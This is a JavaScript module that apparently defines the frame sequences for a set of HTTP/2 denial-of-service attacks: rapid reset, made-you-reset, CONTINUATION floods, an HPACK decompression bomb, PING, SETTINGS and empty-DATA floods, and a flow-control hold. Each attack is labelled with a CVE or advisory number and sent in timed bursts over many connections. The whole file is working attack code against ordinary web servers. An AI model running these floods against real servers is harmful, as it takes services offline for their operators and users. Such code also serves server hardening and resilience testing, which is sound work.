// What each attack sends, with pauses in between; frames are put together once where they stay the same.
import { FLAG, INITIAL_WINDOW_SIZE, TYPE, frame, get, request, reset, settings, windowUpdate } from './frames.mjs';

const CANCEL = 8;
const BURST = 100;
const SMALL_FRAMES = 2_000;
const PAUSE_MS = 50;
const STREAMS = 100;
const FEED_MS = 8000;

/**
 * The attacks by name. Each says how many connections it keeps open, whether it reads what comes, whether it takes the
 * time of the hold in place of the usual one, the SETTINGS it begins with, and in `send` what goes out on one connection: an iterable of
 * octets and of pauses in milliseconds. A pause comes often enough that a connection which has ended sends no more.
 */
export const attacks = {
    'rapid-reset': {
        what: 'GET and RST_STREAM at once (CVE-2023-44487)',
        connections: 10,
        send: at => bursts(id => [get(id, at.small), reset(id, CANCEL)]),
    },
    'made-you-reset': {
        what: 'GET and a WINDOW_UPDATE of 0, for which the server resets (CVE-2025-8671)',
        connections: 10,
        send: at => bursts(id => [get(id, at.small), windowUpdate(id, 0)]),
    },
    continuation: {
        what: 'a header block without end, in CONTINUATION frames of 1 KB (VU#421644)',
        connections: 10,
        send: at => block(at, literals()),
    },
    'empty-continuation': {
        what: 'the same in CONTINUATION frames without content (CVE-2026-33871)',
        connections: 10,
        send: at => block(at, Buffer.alloc(0)),
    },
    'hpack-bomb': {
        what: '10,000 references to one field in each of 100 requests whose answers find no window (CVE-2026-49975)',
        connections: 10,
        settings: [INITIAL_WINDOW_SIZE, 0],
        *send(at) {
            for (let id = 1; id < 2 * STREAMS; id += 2) {
                yield frame(TYPE.HEADERS, FLAG.END_STREAM | FLAG.END_HEADERS, id,
                    Buffer.concat([request('GET', at.large), Buffer.from('400178017a', 'hex'), Buffer.alloc(10_000, 0xbe)]));
                yield 1;
            }
            yield* rest();
        },
    },
    ping: {
        what: 'PINGs whose answers are not read (CVE-2019-9512)',
        connections: 10,
        reads: false,
        send: () => repeat(frame(TYPE.PING, 0, 0, Buffer.alloc(8))),
    },
    settings: {
        what: 'SETTINGS whose acknowledgements are not read (CVE-2019-9515)',
        connections: 10,
        reads: false,
        send: () => repeat(settings()),
    },
    'empty-data': {
        what: 'DATA frames without content (CVE-2019-9518)',
        connections: 10,
        *send(at) {
            yield frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, request('POST', at.small));
            yield* repeat(frame(TYPE.DATA, 0, 1));
        },
    },
    hold: {
        what: '100 GETs of 100 KB a connection, no window, then one octet of it for each stream every 8 s (CVE-2026-49975)',
        connections: at => at.connections,
        holds: true,
        settings: [INITIAL_WINDOW_SIZE, 0],
        *send(at) {
            const ids = Array.from({ length: STREAMS }, (_, i) => 2 * i + 1);
            yield Buffer.concat(ids.map(id => get(id, at.large)));
            for (;;) {
                yield FEED_MS;
                yield Buffer.concat(ids.map(id => windowUpdate(id, 1)));
            }
        },
    },
};

/** Bursts of frames made for one stream id after the other. */
function* bursts(frames) {
    for (let id = 3; ; id += 2 * BURST) {
        yield Buffer.concat(Array.from({ length: BURST }, (_, i) => frames(id + 2 * i)).flat());
        yield PAUSE_MS;
    }
}

/** Bursts of one small frame. */
function* repeat(octets) {
    const burst = Buffer.concat(Array(SMALL_FRAMES).fill(octets));
    for (;;) {
        yield burst;
        yield PAUSE_MS;
    }
}

function* block(at, fragment) {
    yield frame(TYPE.HEADERS, FLAG.END_STREAM, 1, request('GET', at.small));
    const burst = Buffer.concat(Array.from({ length: BURST }, () => frame(TYPE.CONTINUATION, 0, 1, fragment)));
    for (;;) {
        yield burst;
        yield PAUSE_MS;
    }
}

/** Sixteen fields of 64 octets that no table keeps. */
function literals() {
    return Buffer.concat(Array.from({ length: 16 }, (_, i) =>
        Buffer.concat([Buffer.from([0x00, 4]), Buffer.from(`x-${10 + i}`), Buffer.from([57]), Buffer.alloc(57, 0x76)])));
}

function* rest() {
    for (;;) {
        yield PAUSE_MS;
    }
}
